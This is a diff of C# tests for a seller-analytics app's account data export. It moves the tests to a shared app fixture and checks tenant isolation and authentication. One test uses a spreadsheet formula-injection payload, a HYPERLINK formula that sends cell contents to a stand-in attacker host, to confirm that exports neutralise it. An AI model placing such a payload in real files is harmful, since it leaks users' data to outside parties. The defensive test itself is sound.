@@ -6,7 +6,7 @@ using Sellmetrics.Web.Tests.Sync;
 
 namespace Sellmetrics.Web.Tests.Account;
 
-public sealed class AccountExportTests(TestPostgres postgres)
+public sealed class AccountExportTests(TestPostgres postgres, SharedApp shared) : IClassFixture<SharedApp>
 {
     [Fact]
     public async Task ASellerDownloadsAllTheirDataAsOneZipWithoutCredentialsOrAnotherTenantsRows()
@@ -17,15 +17,7 @@ public sealed class AccountExportTests(TestPostgres postgres)
         var credentials = await SyncApp.CreateSandboxSellerAsync(app, 8118);
         await SyncApp.ConnectAmazonAsync(seller, credentials);
         await SyncApp.WaitForImportAsync(seller);
-        await AppClient.EnsureOkAsync(await seller.Browser.SendJsonAsync(HttpMethod.Post, "/api/recurring-costs", new
-        {
-            name = "Prep centre",
-            category = "Logistics",
-            amount = 120m,
-            currency = "USD",
-            frequency = "monthly",
-            startDate = "2026-01-01",
-        }));
+        await seller.AddRecurringCostAsync("Prep centre", "Logistics", 120m);
 
         var files = await ExportAsync(seller);
         var neighbours = await ExportAsync(other);
@@ -46,7 +38,7 @@ public sealed class AccountExportTests(TestPostgres postgres)
     [Fact]
     public async Task ExportedCellsThatASpreadsheetWouldRunAsFormulasAreNeutralisedAndNumbersStayNumbers()
     {
-        await using var app = await SellmetricsApp.StartAsync(postgres);
+        var app = shared.App;
         var seller = await Seller.SignUpAsync(app, "Injected");
         const string hyperlink = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Refund\")";
         var csv = $"sku,unitCost,currency,effectiveFrom\n\"{hyperlink.Replace("\"", "\"\"", StringComparison.Ordinal)}\",12.5,USD,2026-01-01\n" +
@@ -68,7 +60,7 @@ public sealed class AccountExportTests(TestPostgres postgres)
     [Fact]
     public async Task WithoutASessionThereIsNoExport()
     {
-        await using var app = await SellmetricsApp.StartAsync(postgres);
+        var app = shared.App;
         using var anonymous = app.CreateClient();
 
         Assert.Equal(HttpStatusCode.Unauthorized, (await anonymous.GetAsync("/api/account/export")).StatusCode);
